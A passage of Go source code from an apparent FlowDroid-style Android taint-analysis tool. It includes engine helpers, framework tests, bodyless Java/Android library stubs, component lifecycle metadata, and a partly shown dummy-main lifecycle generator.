	switch v := v.(type) {
	case *ir.Local:
		return v == l
	case *ir.Cast:
		return valueReadsLocal(v.X, l)
	case *ir.FieldRef:
		return v.Base == l
	case *ir.ArrayRef:
		return v.Base == l || valueReadsLocal(v.Index, l)
	case *ir.Binop:
		return valueReadsLocal(v.L, l) || valueReadsLocal(v.R, l)
	case *ir.NewArray:
		return v.Len != nil && valueReadsLocal(v.Len, l)
	}
	return false
}

// hasBodiedCallee reports whether any resolved dispatch target of s has an
// analyzable body.
func (e *engine) hasBodiedCallee(s ir.Stmt) bool {
	for _, c := range e.icfg.CalleesOf(s) {
		if c.EntryStmt() != nil {
			return true
		}
	}
	return false
}

// baseRulesConfined reports whether every wrapper rule at s that fires on
// a tainted receiver writes only to the receiver or the result — i.e. a
// receiver-rooted alias flowing over s cannot taint an argument. Unmodeled
// calls are confined too: the native default only fires on tainted
// arguments, never on the receiver alone.
func (e *engine) baseRulesConfined(s ir.Stmt) bool {
	si := e.siteOf(s)
	for _, r := range si.rules {
		if r.From != SlotBase {
			continue
		}
		for _, to := range r.To {
			if to != SlotBase && to != SlotReturn {
				return false
			}
		}
	}
	return true
}
