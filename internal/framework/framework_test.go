package framework

import (
	"testing"

	"flowdroid/internal/ir"
)

func TestFrameworkLoads(t *testing.T) {
	prog := NewProgram()
	if err := prog.Link(); err != nil {
		t.Fatalf("Link: %v", err)
	}
	for _, cls := range []string{
		"java.lang.Object", "java.lang.String", "java.util.ArrayList",
		ActivityClass, ServiceClass, ReceiverClass, ProviderClass,
		"android.telephony.SmsManager", "android.view.View$OnClickListener",
	} {
		if prog.Class(cls) == nil {
			t.Errorf("framework class %s missing", cls)
		}
	}
}

func TestSubtyping(t *testing.T) {
	prog := NewProgram()
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		sub, super string
		want       bool
	}{
		{"android.widget.EditText", "android.view.View", true},
		{"android.widget.EditText", "java.lang.Object", true},
		{"java.util.ArrayList", "java.util.List", true},
		{"java.util.ArrayList", "java.util.Collection", true},
		{"java.util.HashSet", "java.util.Collection", true},
		{"android.app.Activity", "android.content.Context", true},
		{"android.app.Activity", "android.app.Service", false},
		{"java.lang.String", "java.util.List", false},
	}
	for _, c := range cases {
		if got := prog.SubtypeOf(c.sub, c.super); got != c.want {
			t.Errorf("SubtypeOf(%s, %s) = %v, want %v", c.sub, c.super, got, c.want)
		}
	}
}

func TestKindOf(t *testing.T) {
	prog := NewProgram()
	// An app activity subclass.
	ir.NewClassIn(prog, "com.app.Main", ActivityClass)
	ir.NewClassIn(prog, "com.app.Helper", "")
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	if k := KindOf(prog, "com.app.Main"); k != Activity {
		t.Errorf("KindOf(Main) = %v, want Activity", k)
	}
	if k := KindOf(prog, "com.app.Helper"); k != NotAComponent {
		t.Errorf("KindOf(Helper) = %v, want NotAComponent", k)
	}
	if k := KindOf(prog, ReceiverClass); k != Receiver {
		t.Errorf("KindOf(receiver base) = %v, want Receiver", k)
	}
}

func TestMethodResolution(t *testing.T) {
	prog := NewProgram()
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	// EditText inherits getText from TextView.
	m := prog.ResolveMethod("android.widget.EditText", "getText", 0)
	if m == nil {
		t.Fatal("getText not resolved on EditText")
	}
	if m.Class.Name != "android.widget.TextView" {
		t.Errorf("getText resolved in %s, want android.widget.TextView", m.Class.Name)
	}
	// Interface method resolution through extends chain.
	if m := prog.ResolveMethod("java.util.Set", "add", 1); m == nil {
		t.Error("Set.add not resolved via Collection")
	}
}

func TestLifecycleMetadata(t *testing.T) {
	if !IsLifecycleMethod(Activity, "onCreate", 1) {
		t.Error("onCreate/1 should be an activity lifecycle method")
	}
	if IsLifecycleMethod(Activity, "onCreate", 0) {
		t.Error("onCreate/0 should not match (arity)")
	}
	if !IsLifecycleMethod(Receiver, "onReceive", 2) {
		t.Error("onReceive/2 should be a receiver lifecycle method")
	}
	if !IsCallbackInterface("android.view.View$OnClickListener") {
		t.Error("OnClickListener should be a callback interface")
	}
	if !IsOverridableMethod("onLowMemory", 0) {
		t.Error("onLowMemory should be overridable")
	}
	for _, k := range []ComponentKind{Activity, Service, Receiver, Provider} {
		if BaseClass(k) == "" {
			t.Errorf("no base class for %v", k)
		}
		if len(LifecycleOf(k)) == 0 {
			t.Errorf("no lifecycle for %v", k)
		}
	}
}
