package framework

// stubSource is the framework library model in IR text form: the subset of
// java.lang, java.util, java.io, java.net and android.* the benchmark
// programs and analyses need. All methods are bodyless stubs.
const stubSource = `
// ---------------------------------------------------------------- java.lang

class java.lang.Object {
  method init(): void;
  method toString(): java.lang.String;
  method equals(o: java.lang.Object): boolean;
  method hashCode(): int;
  method getClass(): java.lang.Class;
}

class java.lang.Class {
  static method forName(name: java.lang.String): java.lang.Class;
  method getName(): java.lang.String;
  method newInstance(): java.lang.Object;
  method getMethod(name: java.lang.String): java.lang.reflect.Method;
  method getDeclaredMethod(name: java.lang.String): java.lang.reflect.Method;
  method getClassLoader(): java.lang.ClassLoader;
}

class java.lang.reflect.Method {
  method getName(): java.lang.String;
  method invoke(recv: java.lang.Object): java.lang.Object;
  method invoke(recv: java.lang.Object, a1: java.lang.Object): java.lang.Object;
  method invoke(recv: java.lang.Object, a1: java.lang.Object, a2: java.lang.Object): java.lang.Object;
  method invoke(recv: java.lang.Object, a1: java.lang.Object, a2: java.lang.Object, a3: java.lang.Object): java.lang.Object;
}

class java.lang.ClassLoader {
  method loadClass(name: java.lang.String): java.lang.Class;
}

class java.lang.String {
  method init(s: java.lang.String): void;
  method concat(s: java.lang.String): java.lang.String;
  method substring(b: int): java.lang.String;
  method substring(b: int, e: int): java.lang.String;
  method toCharArray(): char[];
  method getBytes(): byte[];
  method isEmpty(): boolean;
  method length(): int;
  method charAt(i: int): char;
  method toUpperCase(): java.lang.String;
  method toLowerCase(): java.lang.String;
  method trim(): java.lang.String;
  method split(sep: java.lang.String): java.lang.String[];
  method indexOf(s: java.lang.String): int;
  method replace(a: java.lang.String, b: java.lang.String): java.lang.String;
  method contains(s: java.lang.String): boolean;
  method compareTo(s: java.lang.String): int;
  method startsWith(s: java.lang.String): boolean;
  static method valueOf(o: java.lang.Object): java.lang.String;
  static method format(f: java.lang.String, a: java.lang.Object): java.lang.String;
}

class java.lang.StringBuilder {
  method init(): void;
  method append(s: java.lang.String): java.lang.StringBuilder;
  method insert(i: int, s: java.lang.String): java.lang.StringBuilder;
  method reverse(): java.lang.StringBuilder;
  method deleteCharAt(i: int): java.lang.StringBuilder;
}

class java.lang.StringBuffer {
  method init(): void;
  method append(s: java.lang.String): java.lang.StringBuffer;
  method insert(i: int, s: java.lang.String): java.lang.StringBuffer;
  method reverse(): java.lang.StringBuffer;
}

class java.lang.Integer {
  static method parseInt(s: java.lang.String): int;
  static method valueOf(i: int): java.lang.Integer;
  method intValue(): int;
}

class java.lang.System {
  static method arraycopy(src: java.lang.Object, sp: int, dst: java.lang.Object, dp: int, n: int): void;
  static method currentTimeMillis(): long;
  static method getProperty(k: java.lang.String): java.lang.String;
}

interface java.lang.Runnable {
  method run(): void;
}

class java.lang.Thread {
  method init(r: java.lang.Runnable): void;
  method start(): void;
  method join(): void;
}

class java.lang.Exception {
  method init(msg: java.lang.String): void;
  method getMessage(): java.lang.String;
}

// ---------------------------------------------------------------- java.util

interface java.util.Iterator {
  method hasNext(): boolean;
  method next(): java.lang.Object;
}

interface java.util.Collection {
  method add(e: java.lang.Object): boolean;
  method size(): int;
  method iterator(): java.util.Iterator;
  method clear(): void;
  method contains(e: java.lang.Object): boolean;
}

interface java.util.List extends java.util.Collection {
  method get(i: int): java.lang.Object;
  method set(i: int, e: java.lang.Object): java.lang.Object;
  method remove(i: int): java.lang.Object;
}

class java.util.ArrayList implements java.util.List {
  method init(): void;
  method add(e: java.lang.Object): boolean;
  method get(i: int): java.lang.Object;
  method set(i: int, e: java.lang.Object): java.lang.Object;
  method remove(i: int): java.lang.Object;
  method size(): int;
  method iterator(): java.util.Iterator;
  method clear(): void;
  method contains(e: java.lang.Object): boolean;
}

class java.util.LinkedList implements java.util.List {
  method init(): void;
  method add(e: java.lang.Object): boolean;
  method addFirst(e: java.lang.Object): void;
  method addLast(e: java.lang.Object): void;
  method get(i: int): java.lang.Object;
  method getFirst(): java.lang.Object;
  method set(i: int, e: java.lang.Object): java.lang.Object;
  method remove(i: int): java.lang.Object;
  method size(): int;
  method iterator(): java.util.Iterator;
  method clear(): void;
  method contains(e: java.lang.Object): boolean;
}

interface java.util.Map {
  method put(k: java.lang.Object, v: java.lang.Object): java.lang.Object;
  method get(k: java.lang.Object): java.lang.Object;
  method remove(k: java.lang.Object): java.lang.Object;
  method containsKey(k: java.lang.Object): boolean;
  method keySet(): java.util.Set;
  method values(): java.util.Collection;
}

class java.util.HashMap implements java.util.Map {
  method init(): void;
  method put(k: java.lang.Object, v: java.lang.Object): java.lang.Object;
  method get(k: java.lang.Object): java.lang.Object;
  method remove(k: java.lang.Object): java.lang.Object;
  method containsKey(k: java.lang.Object): boolean;
  method keySet(): java.util.Set;
  method values(): java.util.Collection;
}

class java.util.Hashtable implements java.util.Map {
  method init(): void;
  method put(k: java.lang.Object, v: java.lang.Object): java.lang.Object;
  method get(k: java.lang.Object): java.lang.Object;
  method remove(k: java.lang.Object): java.lang.Object;
  method containsKey(k: java.lang.Object): boolean;
  method keySet(): java.util.Set;
  method values(): java.util.Collection;
  method elements(): java.util.Iterator;
}

interface java.util.Set extends java.util.Collection {
}

class java.util.HashSet implements java.util.Set {
  method init(): void;
  method add(e: java.lang.Object): boolean;
  method size(): int;
  method iterator(): java.util.Iterator;
  method clear(): void;
  method contains(e: java.lang.Object): boolean;
}

class java.util.Vector implements java.util.List {
  method init(): void;
  method add(e: java.lang.Object): boolean;
  method addElement(e: java.lang.Object): void;
  method get(i: int): java.lang.Object;
  method elementAt(i: int): java.lang.Object;
  method set(i: int, e: java.lang.Object): java.lang.Object;
  method remove(i: int): java.lang.Object;
  method size(): int;
  method iterator(): java.util.Iterator;
  method clear(): void;
  method contains(e: java.lang.Object): boolean;
}

class java.util.StringTokenizer {
  method init(s: java.lang.String): void;
  method hasMoreTokens(): boolean;
  method nextToken(): java.lang.String;
}

// ------------------------------------------------------- java.io / java.net

class java.io.OutputStream {
  method write(b: java.lang.String): void;
  method close(): void;
}

class java.io.FileOutputStream extends java.io.OutputStream {
  method init(name: java.lang.String): void;
}

class java.io.Writer {
  method write(s: java.lang.String): void;
  method close(): void;
}

class java.io.PrintWriter extends java.io.Writer {
  method init(w: java.io.Writer): void;
  method println(s: java.lang.String): void;
  method print(s: java.lang.String): void;
}

class java.io.BufferedReader {
  method init(r: java.lang.Object): void;
  method readLine(): java.lang.String;
}

class java.io.File {
  method init(name: java.lang.String): void;
  method getPath(): java.lang.String;
}

class java.net.URL {
  method init(spec: java.lang.String): void;
  method openConnection(): java.net.URLConnection;
}

class java.net.URLConnection {
  method getOutputStream(): java.io.OutputStream;
  method getInputStream(): java.lang.Object;
  method setRequestProperty(k: java.lang.String, v: java.lang.String): void;
}

class java.net.Socket {
  method init(host: java.lang.String, port: int): void;
  method getOutputStream(): java.io.OutputStream;
}

// ------------------------------------------------------------- android.os

class android.os.Bundle {
  method init(): void;
  method putString(k: java.lang.String, v: java.lang.String): void;
  method getString(k: java.lang.String): java.lang.String;
}

// -------------------------------------------------------- android.content

class android.content.Context {
  method getSystemService(name: java.lang.String): java.lang.Object;
  method sendBroadcast(i: android.content.Intent): void;
  method registerReceiver(r: android.content.BroadcastReceiver, f: android.content.IntentFilter): android.content.Intent;
  method getSharedPreferences(name: java.lang.String, mode: int): android.content.SharedPreferences;
  method startService(i: android.content.Intent): void;
  method startActivity(i: android.content.Intent): void;
  method openFileOutput(name: java.lang.String, mode: int): java.io.FileOutputStream;
  method getApplicationContext(): android.content.Context;
}

class android.content.Intent {
  method init(): void;
  method setAction(a: java.lang.String): android.content.Intent;
  method getAction(): java.lang.String;
  method putExtra(k: java.lang.String, v: java.lang.String): android.content.Intent;
  method getStringExtra(k: java.lang.String): java.lang.String;
  method getExtras(): android.os.Bundle;
  method setClassName(pkg: java.lang.String, cls: java.lang.String): android.content.Intent;
}

class android.content.IntentFilter {
  method init(action: java.lang.String): void;
}

class android.content.SharedPreferences {
  method edit(): android.content.SharedPreferences$Editor;
  method getString(k: java.lang.String, dflt: java.lang.String): java.lang.String;
}

class android.content.SharedPreferences$Editor {
  method putString(k: java.lang.String, v: java.lang.String): android.content.SharedPreferences$Editor;
  method commit(): boolean;
}

class android.content.ContentValues {
  method init(): void;
  method put(k: java.lang.String, v: java.lang.String): void;
}

class android.net.Uri {
  static method parse(s: java.lang.String): android.net.Uri;
}

interface android.content.DialogInterface$OnClickListener {
  method onClick(d: java.lang.Object, which: int): void;
}

// ------------------------------------------------------------ components

class android.app.Activity extends android.content.Context {
  method init(): void;
  method onCreate(b: android.os.Bundle): void;
  method onStart(): void;
  method onRestoreInstanceState(b: android.os.Bundle): void;
  method onResume(): void;
  method onPause(): void;
  method onSaveInstanceState(b: android.os.Bundle): void;
  method onStop(): void;
  method onRestart(): void;
  method onDestroy(): void;
  method onLowMemory(): void;
  method onTrimMemory(level: int): void;
  method onConfigurationChanged(c: java.lang.Object): void;
  method onActivityResult(data: android.content.Intent): void;
  method onNewIntent(i: android.content.Intent): void;
  method onUserLeaveHint(): void;
  method onBackPressed(): void;
  method findViewById(id: int): android.view.View;
  method setContentView(id: int): void;
  method getIntent(): android.content.Intent;
  method setIntent(i: android.content.Intent): void;
  method setResult(code: int, data: android.content.Intent): void;
  method startActivityForResult(i: android.content.Intent, code: int): void;
  method runOnUiThread(r: java.lang.Runnable): void;
  method finish(): void;
}

class android.app.Service extends android.content.Context {
  method init(): void;
  method onCreate(): void;
  method onStartCommand(i: android.content.Intent): void;
  method onBind(i: android.content.Intent): void;
  method onUnbind(i: android.content.Intent): void;
  method onDestroy(): void;
  method onLowMemory(): void;
}

class android.content.BroadcastReceiver {
  method init(): void;
  method onReceive(c: android.content.Context, i: android.content.Intent): void;
}

class android.content.ContentProvider {
  method init(): void;
  method onCreate(): void;
  method query(uri: android.net.Uri, sel: java.lang.String): java.lang.Object;
  method insert(uri: android.net.Uri, vals: android.content.ContentValues): android.net.Uri;
  method update(uri: android.net.Uri, vals: android.content.ContentValues): int;
  method delete(uri: android.net.Uri, sel: java.lang.String): int;
}

class android.app.Application extends android.content.Context {
  method init(): void;
  method onCreate(): void;
}

// --------------------------------------------------------- views / widgets

class android.view.View {
  method init(c: android.content.Context): void;
  method setOnClickListener(l: android.view.View$OnClickListener): void;
  method setOnLongClickListener(l: android.view.View$OnLongClickListener): void;
  method setOnTouchListener(l: android.view.View$OnTouchListener): void;
  method findViewById(id: int): android.view.View;
  method getId(): int;
  method setEnabled(b: boolean): void;
}

interface android.view.View$OnClickListener {
  method onClick(v: android.view.View): void;
}

interface android.view.View$OnLongClickListener {
  method onLongClick(v: android.view.View): boolean;
}

interface android.view.View$OnTouchListener {
  method onTouch(v: android.view.View, e: java.lang.Object): boolean;
}

class android.widget.TextView extends android.view.View {
  method getText(): java.lang.String;
  method setText(s: java.lang.String): void;
  method addTextChangedListener(w: android.widget.TextWatcher): void;
}

interface android.widget.TextWatcher {
  method beforeTextChanged(s: java.lang.String, n: int): void;
  method onTextChanged(s: java.lang.String, n: int): void;
  method afterTextChanged(s: java.lang.String): void;
}

class android.widget.EditText extends android.widget.TextView {
}

class android.widget.Button extends android.widget.TextView {
}

// ----------------------------------------------- telephony / location / log

class android.telephony.TelephonyManager {
  method getDeviceId(): java.lang.String;
  method getSimSerialNumber(): java.lang.String;
  method getSubscriberId(): java.lang.String;
  method getLine1Number(): java.lang.String;
}

class android.telephony.SmsManager {
  static method getDefault(): android.telephony.SmsManager;
  method sendTextMessage(dest: java.lang.String, sc: java.lang.String, text: java.lang.String, si: java.lang.Object, di: java.lang.Object): void;
}

class android.location.Location {
  method getLatitude(): long;
  method getLongitude(): long;
  method toString(): java.lang.String;
}

class android.location.LocationManager {
  method getLastKnownLocation(provider: java.lang.String): android.location.Location;
  method requestLocationUpdates(provider: java.lang.String, minTime: long, minDist: long, l: android.location.LocationListener): void;
}

interface android.location.LocationListener {
  method onLocationChanged(l: android.location.Location): void;
  method onProviderEnabled(p: java.lang.String): void;
  method onProviderDisabled(p: java.lang.String): void;
  method onStatusChanged(p: java.lang.String, status: int): void;
}

class android.util.Log {
  static method v(tag: java.lang.String, msg: java.lang.String): int;
  static method d(tag: java.lang.String, msg: java.lang.String): int;
  static method i(tag: java.lang.String, msg: java.lang.String): int;
  static method w(tag: java.lang.String, msg: java.lang.String): int;
  static method e(tag: java.lang.String, msg: java.lang.String): int;
}

class android.accounts.AccountManager {
  static method get(c: android.content.Context): android.accounts.AccountManager;
  method getPassword(account: java.lang.Object): java.lang.String;
}
`
