// Package framework provides the Android and Java library model the
// analyses link against: stub classes (the stand-in for android.jar),
// lifecycle metadata for the four Android component kinds, and the
// registry of well-known callback interfaces.
//
// Stub methods have no bodies; the taint analysis handles calls to them
// through taint-wrapper shortcut rules or the native-call default, exactly
// as FlowDroid treats library methods without an explicit model.
package framework

import (
	"fmt"

	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
)

// ComponentKind identifies the four Android component kinds plus
// non-components.
type ComponentKind int

const (
	// NotAComponent marks classes that are not Android components.
	NotAComponent ComponentKind = iota
	// Activity is a single focused user screen.
	Activity
	// Service is a background task.
	Service
	// Receiver is a broadcast receiver listening for global events.
	Receiver
	// Provider is a database-like content provider.
	Provider
)

func (k ComponentKind) String() string {
	switch k {
	case Activity:
		return "activity"
	case Service:
		return "service"
	case Receiver:
		return "receiver"
	case Provider:
		return "provider"
	}
	return "none"
}

// Base class names of the component kinds.
const (
	ActivityClass = "android.app.Activity"
	ServiceClass  = "android.app.Service"
	ReceiverClass = "android.content.BroadcastReceiver"
	ProviderClass = "android.content.ContentProvider"
)

// BaseClass returns the framework base class for a component kind.
func BaseClass(k ComponentKind) string {
	switch k {
	case Activity:
		return ActivityClass
	case Service:
		return ServiceClass
	case Receiver:
		return ReceiverClass
	case Provider:
		return ProviderClass
	}
	return ""
}

// KindOf classifies a class by walking its superclass chain.
func KindOf(prog ir.Hierarchy, class string) ComponentKind {
	switch {
	case prog.SubtypeOf(class, ActivityClass):
		return Activity
	case prog.SubtypeOf(class, ServiceClass):
		return Service
	case prog.SubtypeOf(class, ReceiverClass):
		return Receiver
	case prog.SubtypeOf(class, ProviderClass):
		return Provider
	}
	return NotAComponent
}

// MethodSig names a method by name and arity, the granularity at which the
// IR resolves overloads.
type MethodSig struct {
	Name  string
	NArgs int
}

// Lifecycle method sequences per component kind, in their canonical
// execution order. The lifecycle generator consumes these.
var (
	// ActivityLifecycle is the activity lifecycle as modeled in Figure 1
	// of the paper.
	ActivityLifecycle = []MethodSig{
		{"onCreate", 1}, {"onStart", 0}, {"onRestoreInstanceState", 1},
		{"onResume", 0}, {"onPause", 0}, {"onSaveInstanceState", 1},
		{"onStop", 0}, {"onRestart", 0}, {"onDestroy", 0},
	}
	// ServiceLifecycle is the service lifecycle.
	ServiceLifecycle = []MethodSig{
		{"onCreate", 0}, {"onStartCommand", 1}, {"onBind", 1},
		{"onUnbind", 1}, {"onDestroy", 0},
	}
	// ReceiverLifecycle is the broadcast receiver lifecycle.
	ReceiverLifecycle = []MethodSig{{"onReceive", 2}}
	// ProviderLifecycle is the content provider lifecycle.
	ProviderLifecycle = []MethodSig{
		{"onCreate", 0}, {"query", 2}, {"insert", 2}, {"update", 2}, {"delete", 2},
	}
)

// LifecycleOf returns the lifecycle method list for a component kind.
func LifecycleOf(k ComponentKind) []MethodSig {
	switch k {
	case Activity:
		return ActivityLifecycle
	case Service:
		return ServiceLifecycle
	case Receiver:
		return ReceiverLifecycle
	case Provider:
		return ProviderLifecycle
	}
	return nil
}

// IsLifecycleMethod reports whether (name, nargs) is a lifecycle method of
// the given component kind.
func IsLifecycleMethod(k ComponentKind, name string, nargs int) bool {
	for _, m := range LifecycleOf(k) {
		if m.Name == name && m.NArgs == nargs {
			return true
		}
	}
	return false
}

// CallbackInterfaces maps each well-known callback interface to the
// callback methods the framework may invoke on implementors. The callback
// discovery pass scans for calls to framework methods taking one of these
// interfaces as a formal parameter.
var CallbackInterfaces = map[string][]MethodSig{
	"android.view.View$OnClickListener":     {{"onClick", 1}},
	"android.view.View$OnLongClickListener": {{"onLongClick", 1}},
	"android.view.View$OnTouchListener":     {{"onTouch", 2}},
	"android.location.LocationListener": {
		{"onLocationChanged", 1}, {"onProviderEnabled", 1},
		{"onProviderDisabled", 1}, {"onStatusChanged", 2},
	},
	"android.content.DialogInterface$OnClickListener": {{"onClick", 2}},
	"java.lang.Runnable":                              {{"run", 0}},
	"android.widget.TextWatcher": {
		{"beforeTextChanged", 2}, {"onTextChanged", 2}, {"afterTextChanged", 1},
	},
}

// IsCallbackInterface reports whether the named interface is a registered
// callback interface.
func IsCallbackInterface(name string) bool {
	_, ok := CallbackInterfaces[name]
	return ok
}

// OverridableMethods lists framework methods that, when overridden by an
// app class, are invoked directly by the framework and must therefore be
// treated as callbacks even without an explicit registration (the
// "undocumented callbacks" of the paper, cf. DroidBench MethodOverride1).
var OverridableMethods = []MethodSig{
	{"onLowMemory", 0},
	{"onTrimMemory", 1},
	{"onConfigurationChanged", 1},
	{"onActivityResult", 1},
	{"onNewIntent", 1},
	{"onUserLeaveHint", 0},
	{"onBackPressed", 0},
}

// IsOverridableMethod reports whether (name, nargs) is a framework method
// callable by the system when overridden.
func IsOverridableMethod(name string, nargs int) bool {
	for _, m := range OverridableMethods {
		if m.Name == name && m.NArgs == nargs {
			return true
		}
	}
	return false
}

// NewProgram returns a fresh program preloaded with the framework model.
func NewProgram() *ir.Program {
	prog := ir.NewProgram()
	if err := AddTo(prog); err != nil {
		// The framework source is a compile-time constant; failing to
		// parse it is a programming error in this package.
		panic(fmt.Sprintf("framework: %v", err))
	}
	return prog
}

// AddTo parses the framework stubs into an existing program. Call
// prog.Link() after adding the app classes.
func AddTo(prog *ir.Program) error {
	return irtext.ParseInto(prog, stubSource, "framework.ir")
}
