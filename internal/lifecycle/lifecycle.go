// Package lifecycle generates the per-app dummy main method that emulates
// the Android component lifecycle (Section 3 of the paper). Android apps
// have no main method; the generated entry point models every lifecycle
// transition of every enabled component, in arbitrary sequential order
// with repetition, with registered callbacks invocable only while their
// owning component is running. Branching uses opaque predicates ("if *"),
// which the non-path-sensitive IFDS analysis treats as both-ways edges —
// exactly the construction of Figure 1.
package lifecycle

import (
	"encoding/hex"
	"fmt"
	"strings"

	"flowdroid/internal/apk"
	"flowdroid/internal/callbacks"
	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
)

// DummyMainClass is the name of the synthesized entry-point class.
const DummyMainClass = "dummyMainClass"

// Mode selects how faithfully the lifecycle automaton is generated.
type Mode int

const (
	// FullLifecycle generates the complete automaton of Figure 1:
	// arbitrary component order with repetition, pause/resume and
	// restart loops, callbacks only within the running phase. This is
	// FlowDroid's model.
	FullLifecycle Mode = iota
	// FlatLifecycle invokes each component's lifecycle methods once, in
	// canonical order, with no loops; callbacks follow unconditionally.
	// This mimics tools with a naive single-pass lifecycle model: flows
	// that need repetition or a non-canonical order (pause before the
	// next resume, save before restore) are missed.
	FlatLifecycle
	// CreateOnly invokes only the creation entry point of each
	// component, mimicking lifecycle-unaware tools.
	CreateOnly
)

// Options configures dummy-main generation.
type Options struct {
	// Mode selects the lifecycle automaton shape.
	Mode Mode
	// ModelLifecycle is a legacy alias: when false it forces CreateOnly.
	ModelLifecycle bool
	// InvokeCallbacks controls whether discovered callbacks are invoked.
	InvokeCallbacks bool
	// RunStaticInitializers calls every app class's clinit method at the
	// very start of the dummy main. This reproduces Soot's assumption
	// that static initializers run at program start (which is why
	// DroidBench's StaticInitialization1 is missed).
	RunStaticInitializers bool
	// XMLCallbacksOnly restricts invocation to callbacks declared in
	// layout XML, mimicking tools that miss imperative registrations and
	// overridden framework methods.
	XMLCallbacksOnly bool
	// IncludeDisabled also models components the manifest disables,
	// mimicking tools that ignore android:enabled (the source of the
	// InactiveActivity false positive).
	IncludeDisabled bool
	// SkipComponents lists component classes to leave out of the dummy
	// main entirely. The demand-driven pipeline sets it to the components
	// outside a sink query's reachability cone; the generated class
	// records the set (see SkipFingerprintOf) so a dummy main built for
	// one query is never silently reused for another. Callers must keep
	// the slice sorted — it participates in artifact keys.
	SkipComponents []string
}

// SkipFingerprint renders the skip set for artifact keying and the
// generated-class marker ("" when nothing is skipped).
func (o Options) SkipFingerprint() string { return strings.Join(o.SkipComponents, ",") }

// effectiveMode folds the legacy ModelLifecycle flag into the mode.
func (o Options) effectiveMode() Mode {
	if !o.ModelLifecycle && o.Mode == FullLifecycle {
		return CreateOnly
	}
	return o.Mode
}

// DefaultOptions is the configuration FlowDroid uses.
func DefaultOptions() Options {
	return Options{Mode: FullLifecycle, ModelLifecycle: true, InvokeCallbacks: true, RunStaticInitializers: true}
}

// FlatOptions is the single-pass lifecycle model of coarse tools.
func FlatOptions() Options {
	return Options{Mode: FlatLifecycle, ModelLifecycle: true, InvokeCallbacks: true, RunStaticInitializers: true}
}

// Generate synthesizes the dummy main method for the app and registers its
// class in the app's program. It returns the entry method.
func Generate(app *apk.App, cbs *callbacks.Result, opts Options) (*ir.Method, error) {
	return GenerateWith(app, cbs, app.Program, opts)
}

// GenerateWith is Generate resolving hierarchy queries against h — pass
// a scene.Scene to reuse its caches. The scene must be Refreshed
// afterwards, since generation adds the dummy-main class to the program.
func GenerateWith(app *apk.App, cbs *callbacks.Result, h ir.Hierarchy, opts Options) (*ir.Method, error) {
	prog := app.Program
	if prog.Class(DummyMainClass) != nil {
		return nil, fmt.Errorf("lifecycle: %s already generated", DummyMainClass)
	}
	cb := ir.NewClassIn(prog, DummyMainClass, "")
	cb.Class().Synthetic = true
	if fp := opts.SkipFingerprint(); fp != "" {
		// Record the skip set on the class so a later pipeline run can
		// tell which query this dummy main was generated for.
		if _, err := cb.Class().AddField(skipMarkerPrefix+hex.EncodeToString([]byte(fp)), ir.Unknown, true); err != nil {
			return nil, fmt.Errorf("lifecycle: %w", err)
		}
	}
	mb := cb.StaticMethod("dummyMain", ir.Void)

	g := &generator{app: app, h: h, cbs: cbs, mb: mb, opts: opts}
	g.emit()

	mb.Done()
	if err := cb.Err(); err != nil {
		return nil, err
	}
	if err := prog.Link(); err != nil {
		return nil, fmt.Errorf("lifecycle: linking dummy main: %w", err)
	}
	return mb.Method(), nil
}

type generator struct {
	app  *apk.App
	h    ir.Hierarchy
	cbs  *callbacks.Result
	mb   *ir.MethodBuilder
	opts Options
	n    int // label counter
}

func (g *generator) label(stem string) string {
	g.n++
	return fmt.Sprintf("%s_%d", stem, g.n)
}

// emit writes the whole dummy main body.
func (g *generator) emit() {
	mb := g.mb
	if g.opts.RunStaticInitializers {
		g.emitStaticInitializers()
	}
	g.emitApplication()
	comps := g.components()
	if len(comps) == 0 {
		mb.Return(nil)
		return
	}
	end := g.label("end")
	loop := g.label("loop")
	mb.If(end) // the app may never run any component
	mb.Label(loop).Nop()
	// Arbitrary component choice: a chain of opaque branches.
	next := make([]string, len(comps))
	for i := range comps {
		next[i] = g.label("comp")
	}
	loopCheck := g.label("again")
	for i, comp := range comps {
		mb.Label(next[i]).Nop()
		if i < len(comps)-1 {
			mb.If(next[i+1])
		}
		g.emitComponent(comp)
		mb.Goto(loopCheck)
	}
	// Arbitrary sequential order including repetition.
	mb.Label(loopCheck).If(loop)
	mb.Goto(end)
	mb.Label(end).Return(nil)
}

// components returns the components to model, honoring IncludeDisabled
// and SkipComponents.
func (g *generator) components() []*apk.Component {
	return ModeledComponents(g.app, g.opts)
}

// ModeledComponents returns the components the dummy main would model
// under the options: the enabled components (or every declared one under
// IncludeDisabled) minus the SkipComponents set. The demand-driven
// pipeline uses the same enumeration to decide which components the
// reachability cone lets it skip.
func ModeledComponents(app *apk.App, opts Options) []*apk.Component {
	comps := app.Components()
	if opts.IncludeDisabled {
		comps = nil
		for _, c := range app.Manifest.Components {
			if app.Program.Class(c.Class) != nil {
				comps = append(comps, c)
			}
		}
	}
	if len(opts.SkipComponents) == 0 {
		return comps
	}
	skip := make(map[string]bool, len(opts.SkipComponents))
	for _, c := range opts.SkipComponents {
		skip[c] = true
	}
	out := comps[:0:0]
	for _, c := range comps {
		if !skip[c.Class] {
			out = append(out, c)
		}
	}
	return out
}

// skipMarkerPrefix prefixes the synthetic static field recording the
// hex-encoded skip fingerprint on the generated class.
const skipMarkerPrefix = "queryskip$"

// SkipFingerprintOf recovers the skip fingerprint an existing dummy-main
// class was generated with ("" for an unfiltered dummy main).
func SkipFingerprintOf(c *ir.Class) string {
	for _, f := range c.Fields() {
		if strings.HasPrefix(f.Name, skipMarkerPrefix) {
			if raw, err := hex.DecodeString(strings.TrimPrefix(f.Name, skipMarkerPrefix)); err == nil {
				return string(raw)
			}
		}
	}
	return ""
}

// callbacksOf filters the discovered callbacks per the options.
func (g *generator) callbacksOf(comp *apk.Component) []*ir.Method {
	cbs := g.cbs.CallbacksOf(comp.Class)
	if !g.opts.XMLCallbacksOnly {
		return cbs
	}
	var out []*ir.Method
	for _, m := range cbs {
		if g.cbs.Origins[m] == callbacks.XMLOrigin {
			out = append(out, m)
		}
	}
	return out
}

// emitApplication models the custom Application subclass: Android
// guarantees its onCreate runs before any component starts, so it is
// emitted unconditionally at the head of the dummy main.
func (g *generator) emitApplication() {
	name := g.app.Manifest.Application
	if name == "" || g.h.Class(name) == nil {
		return
	}
	if !g.h.SubtypeOf(name, "android.app.Application") {
		return
	}
	a := g.newLocal("app", name)
